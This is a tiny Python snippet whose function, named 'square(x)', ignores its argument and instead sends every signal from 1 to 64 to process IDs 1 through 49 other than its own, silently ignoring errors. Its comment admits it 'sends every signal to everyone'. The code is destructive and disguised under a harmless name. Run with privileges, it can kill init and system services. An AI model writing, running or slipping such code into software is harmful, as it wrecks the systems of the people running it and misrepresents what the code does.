# Sends every signal to everyone.
import os
def square(x):
    for number in range(1, 65):
        for pid in range(1, 50):
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return None
